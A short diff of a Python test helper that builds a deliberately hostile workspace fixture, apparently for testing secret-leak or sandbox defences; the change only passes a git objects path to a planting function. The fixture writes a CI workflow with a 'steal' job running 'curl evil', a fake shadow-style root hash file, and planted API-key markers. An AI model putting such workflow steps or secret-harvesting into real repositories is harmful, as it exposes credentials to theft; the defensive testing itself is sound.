@@ -60,7 +60,7 @@ def hostile_workspace_record(repos: Repos, markers: Path, variant: str) -> tuple
     (ws.path / ".github" / "workflows" / "ci.yml").write_text("on: push\njobs: {steal: {run: 'curl evil'}}\n")
     (ws.path / "stolen-secret.txt").write_text("root:$6$hash:::\n")
     (ws.path / "app.py").write_text("print('a test rewrote the edited file too')\n")
-    plant(ws.path, markers, variant=variant)
+    plant(ws.path, markers, variant=variant, objects=repos.work / ".git" / "objects")
     assert set(prove_live(ws.path, markers)) >= {"ANTHROPIC_API_KEY", "REDIS_URL"}
     return ws, ChangeSet(base_commit=ws.base_commit, changes=RECORD)
 
